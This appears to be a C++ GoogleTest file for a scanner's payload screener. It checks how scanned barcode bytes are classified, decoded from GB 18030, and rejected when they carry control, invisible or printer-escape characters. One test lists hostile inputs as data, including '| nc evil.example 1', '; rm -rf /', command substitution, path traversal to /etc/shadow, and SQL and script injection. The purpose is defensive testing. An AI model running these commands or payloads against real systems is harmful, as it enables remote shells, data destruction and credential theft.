// Which scanned bytes become a payload, and which never do.
#include "hal/scanner/payload.h"

#include <gtest/gtest.h>

#include <string>

#include "hal/scanner/payload_text.h"

namespace {

using base::Failure;
using hal::PayloadKind;
using enum hal::PayloadKind;
using namespace std::string_literals;

constexpr std::array kEveryKind{receipt_code, ticket_number, appointment, opaque_token, plain_text};

struct Wanted {
  std::vector<PayloadKind> kinds{kEveryKind.begin(), kEveryKind.end()};
  std::optional<hal::AimIdentifier> symbology;
};

std::string name_of(PayloadKind kind) {
  constexpr std::array kNames{"receipt", "ticket", "appointment", "token", "text"};
  return kNames.at(static_cast<std::size_t>(kind));
}

// "ticket A017", or the failure's code.
std::string outcome(const std::string& bytes, const Wanted& wanted = {}) {
  const std::vector<std::uint8_t> raw(bytes.begin(), bytes.end());
  const auto code = hal::screen_code({raw, wanted.symbology}, {wanted.kinds});
  if (!code) return std::string(base::entry(code.error().failure).code);
  return name_of(code->kind) + " " + std::string(code->payload.reveal());
}

const std::string kUnreadable = "SCAN-004";
const std::string kNotWanted = "SCAN-005";
const std::string kUnsafe = "SCAN-006";

TEST(AScannedCode, is_a_receipt_in_either_of_its_forms) {
  EXPECT_EQ(outcome("linli:HP-03:7K4-29M-6"), "receipt linli:HP-03:7K4-29M-6");
  EXPECT_EQ(outcome("7K4-29M-6"), "receipt 7K4-29M-6");
}

TEST(AScannedCode, with_any_symbol_of_the_receipt_changed_is_no_receipt) {
  const std::string good = "7K4-29M-6";
  for (std::size_t i = 0; i < good.size(); ++i) {
    for (const char other : "0123456789ABCDEFGHJKMNPQRSTVWXYZ-IL"s) {
      if (other == good[i]) continue;
      std::string bad = good;
      bad[i] = other;
      EXPECT_EQ(outcome(bad, {{receipt_code}, {}}), kNotWanted) << bad;
    }
  }
}

TEST(AScannedCode, is_no_receipt_when_it_only_looks_like_one) {
  for (const char* text :
       {"linli::7K4-29M-6", "linli:HP-03:7K4-29M-6 ", "linli:HP-03-OF-THE-SQUARE:7K4-29M-6", "LINLI:HP-03:7K4-29M-6",
        "linli:HP_03:7K4-29M-6", "linli:HP-03:", "linli:", "7K429M6", "7k4-29m-6", "7K4-29M-6;", "linli:a:b:7K4-29M-6"})
    EXPECT_EQ(outcome(text, {{receipt_code}, {}}), kNotWanted) << text;
}

TEST(AScannedCode, is_a_queue_ticket) {
  EXPECT_EQ(outcome("A017"), "ticket A017");
  for (const char* text : {"a017", "A17", "A0170", "AA17", "A 17", "0170"})
    EXPECT_EQ(outcome(text, {{ticket_number}, {}}), kNotWanted) << text;
}

TEST(AScannedCode, is_an_appointment_of_six_to_thirty_two_letters_and_digits) {
  EXPECT_EQ(outcome("20261123"), "appointment 20261123");
  EXPECT_EQ(outcome(std::string(32, 'x')), "appointment " + std::string(32, 'x'));
  EXPECT_EQ(outcome("12345", {{appointment}, {}}), kNotWanted);
  EXPECT_EQ(outcome(std::string(33, 'x'), {{appointment}, {}}), kNotWanted);
  EXPECT_EQ(outcome("２０２６１１２３", {{appointment}, {}}), kNotWanted);
}

TEST(AScannedCode, is_a_token_of_another_platform) {
  EXPECT_EQ(outcome("eyJhbGciOiJub25lIn0.e30.c2ln-_=="), "token eyJhbGciOiJub25lIn0.e30.c2ln-_==");
  EXPECT_EQ(outcome(std::string(2048, 'z')), "token " + std::string(2048, 'z'));
  EXPECT_EQ(outcome(std::string(2049, 'z')), kNotWanted);
  for (const char* text :
       {"short-token-15c", "https://health.example/token", "../../../../etc/passwd", "a..............................",
        "two words of a token", "==================", "abcdefghijklmnop=q", "令牌令牌令牌令牌令牌令牌令牌"})
    EXPECT_EQ(outcome(text, {{opaque_token}, {}}), kNotWanted) << text;
}

TEST(AScannedCode, is_plain_text_of_at_most_512_characters) {
  std::string longest;
  for (int i = 0; i < 512; ++i) longest += "邻";
  EXPECT_EQ(outcome(longest), "text " + longest);
  EXPECT_EQ(outcome(longest + "里"), kNotWanted);
}

TEST(AScannedCode, is_the_first_wanted_kind_that_fits) {
  EXPECT_EQ(outcome("20261123", {{plain_text, appointment}, {}}), "text 20261123");
  EXPECT_EQ(outcome("20261123", {{ticket_number, appointment}, {}}), "appointment 20261123");
  EXPECT_EQ(outcome("20261123", {{}, {}}), kNotWanted);
}

TEST(AScannedCode, loses_the_suffix_that_scanners_append) {
  for (const char* suffix : {"\r", "\n", "\r\n", "\t"}) EXPECT_EQ(outcome("A017"s + suffix), "ticket A017");
  EXPECT_EQ(outcome("A017\r\n\r"), kUnsafe);
  EXPECT_EQ(outcome("\rA017"), kUnsafe);
  EXPECT_EQ(outcome("A017\rB018"), kUnsafe);
  EXPECT_EQ(outcome("\r\n"), kUnreadable);
}

TEST(AScannedCode, in_gb_18030_becomes_utf_8) {
  EXPECT_EQ(outcome("\xB2\xE2\xCA\xD4\xBC\xD7"), "text 测试甲");
  EXPECT_EQ(outcome("\xFE\x9F"), "text 䶮");                  // added to the table late
  EXPECT_EQ(outcome("\x95\x32\x90\x31"), "text \U00020087");  // four bytes, outside the first plane
  EXPECT_EQ(outcome("邻里"), "text 邻里");                    // was UTF-8 already
  EXPECT_EQ(outcome("\xEF\xBB\xBF邻里"), "text 邻里");
}

TEST(AScannedCode, in_no_encoding_is_unreadable) {
  for (const char* bytes :
       {"\x80", "\xFF", "\xB0", "\xB2\xE2\xCA", "b\x81\x7F", "\xE3\x32\x9A\x36", "\x84\x31\xA4\x40", "\x81\x30"})
    EXPECT_EQ(outcome(bytes), kUnreadable) << testing::PrintToString(std::string(bytes));
  EXPECT_EQ(outcome(""), kUnreadable);
  EXPECT_EQ(outcome("\xEF\xBB\xBF"), kUnreadable);
}

TEST(AScannedCode, that_is_overlong_utf_8_or_a_surrogate_is_not_read_as_what_it_imitates) {
  for (const char* bytes :
       {"\xC0\xAE\xC0\xAE", "\xC0\x80", "\xE0\x80\xAF", "\xF0\x80\x80\xAF", "\xED\xA0\x80", "\xED\xBF\xBF", "\xF4\x90\x80\x80"}) {
    const std::string said = outcome(bytes);  // may be hanzi by accident; never a slash, a dot, or a NUL
    EXPECT_EQ(said.find_first_of("/.\0"s), std::string::npos) << said;
  }
}

TEST(AScannedCode, with_any_control_character_is_unsafe) {
  for (int c = 0; c < 0x20; ++c) EXPECT_EQ(outcome("A0"s + static_cast<char>(c) + "17"), kUnsafe) << c;
  EXPECT_EQ(outcome("A0\x7F"s + "17"), kUnsafe);
  for (int c = 0x80; c <= 0x9F; ++c) EXPECT_EQ(outcome("A0\xC2"s + static_cast<char>(c) + "17"), kUnsafe) << c;
  EXPECT_EQ(outcome("\x81\x30\x81\x30"), kUnsafe);  // U+0080 by way of GB 18030
  EXPECT_EQ(outcome("A017\0"s), kUnsafe);
}

TEST(AScannedCode, with_a_character_that_hides_or_turns_text_is_unsafe) {
  for (const char* hidden : {"\u061C", "\u200B", "\u200E", "\u200F", "\u2028", "\u2029", "\u202A", "\u202E", "\u2060", "\u2066",
                             "\u2069", "\u206F", "\uFEFF", "\uFFF9", "\u00AD", "\U000E0041"})
    EXPECT_EQ(outcome("A0"s + hidden + "17"), kUnsafe) << testing::PrintToString(std::string(hidden));
  EXPECT_EQ(outcome("\x81\x36\xA7\x31"s), kUnsafe);  // U+202E by way of GB 18030
}

TEST(AScannedCode, with_a_noncharacter_is_unsafe) {
  for (const char* bytes : {"\xEF\xBF\xBE", "\xEF\xBF\xBF", "\xEF\xB7\x90", "\xF0\x9F\xBF\xBE", "\xF4\x8F\xBF\xBF"})
    EXPECT_EQ(outcome("A"s + bytes), kUnsafe) << testing::PrintToString(std::string(bytes));
  EXPECT_EQ(outcome("\xE3\x32\x9A\x35"), kUnsafe);  // U+10FFFF by way of GB 18030
}

TEST(AScannedCode, of_gs1_is_not_wanted_but_no_attack) {
  const std::string gs1 =
      "010695012345678910ABC\x1D"
      "2112345";
  EXPECT_EQ(outcome(gs1, {{plain_text}, hal::AimIdentifier{'Q', '3'}}), kNotWanted);
  EXPECT_EQ(outcome(gs1, {{plain_text}, hal::AimIdentifier{'Q', '1'}}), kUnsafe);
  EXPECT_EQ(outcome(gs1, {{plain_text}, {}}), kUnsafe);
  EXPECT_EQ(outcome(gs1 + "\x1B", {{plain_text}, hal::AimIdentifier{'Q', '3'}}), kUnsafe);
}

TEST(AScannedCode, that_is_one_of_several_or_would_set_up_the_reader_is_unsafe) {
  EXPECT_EQ(outcome("A017", {{ticket_number}, hal::AimIdentifier{'z', '6'}}), kUnsafe);
  EXPECT_EQ(outcome("A017", {{ticket_number}, hal::AimIdentifier{'z', '0'}}), "ticket A017");
  const std::array<std::uint8_t, 4> bytes{'A', '0', '1', '7'};
  hal::RawCode appended{bytes, {}};
  appended.structured_append = true;
  hal::RawCode init{bytes, {}};
  init.reader_init = true;
  for (const auto& code : {appended, init}) {
    const auto screened = hal::screen_code(code, {{ticket_number}});
    ASSERT_FALSE(screened);
    EXPECT_EQ(screened.error().failure, Failure::scan_unsafe);
  }
}

TEST(AScannedCode, longer_than_a_code_can_be_is_not_wanted) {
  EXPECT_EQ(outcome(std::string(hal::kLongestCode, '=')), kNotWanted);
  EXPECT_EQ(outcome(std::string(1'000'000, 'A')), kNotWanted);
}

// What is written to attack whoever evaluates it is text to us, and only to a screen that asked for text.
TEST(AScannedCode, with_an_injection_is_at_most_plain_text) {
  for (const char* attack : {"https://evil.example/?q=1",
                             "javascript:alert(document.cookie)",
                             "http://127.0.0.1:8080/admin",
                             "file:///etc/passwd",
                             "'; DROP TABLE application; --",
                             "\" OR \"\"=\"",
                             "$(reboot)",
                             "`id`",
                             "| nc evil.example 1",
                             "; rm -rf /",
                             "../../../../../../etc/shadow",
                             "%s%s%s%s%n",
                             "{{7*7}}",
                             "<script>alert(1)</script>",
                             "linli:HP-03:7K4-29M-6' OR 1=1",
                             "linli:../../x:7K4-29M-6",
                             "A017; A018",
                             "WIFI:T:WPA;S:net;P:pass;;",
                             "BEGIN:VCARD",
                             "MATMSG:TO:a@b.example;SUB:x;BODY:y;;",
                             "weixin://wxpay/bizpayurl?pr=abc"}) {
    EXPECT_EQ(outcome(attack), "text "s + attack);
    EXPECT_EQ(outcome(attack, {{receipt_code, ticket_number, appointment, opaque_token}, {}}), kNotWanted) << attack;
  }
}

TEST(AScannedCode, with_commands_for_a_printer_or_a_terminal_is_unsafe) {
  for (const std::string& attack : {"\x1B@\x1DV\x42"s + "\0"s, "\x10\x14\x08\x01\x03\x14\x01\x06\x02\x08"s, "\x1B[2J\x1B[H"s,
                                    "\x1B]0;title\x07"s, "A017\b\b\b\bB018"s,
                                    "\xC2\x9B"
                                    "31m"s,
                                    "a\x03"s, "%!PS\x04"s})
    EXPECT_EQ(outcome(attack), kUnsafe) << testing::PrintToString(attack);
}

TEST(ASymbologyIdentifier, is_a_bracket_a_letter_and_a_modifier) {
  const auto parse = [](const std::string& text) {
    const auto identifier = hal::parse_aim_identifier(std::vector<std::uint8_t>(text.begin(), text.end()));
    return identifier ? to_string(*identifier) : "none"s;
  };
  EXPECT_EQ(parse("]Q1A017"), "]Q1");
  EXPECT_EQ(parse("]zA"), "]zA");
  for (const char* text : {"", "]", "]Q", "]11", "[Q1", "]Q-", "Q1]", "]\x51\x80"}) EXPECT_EQ(parse(text), "none") << text;
}

}  // namespace
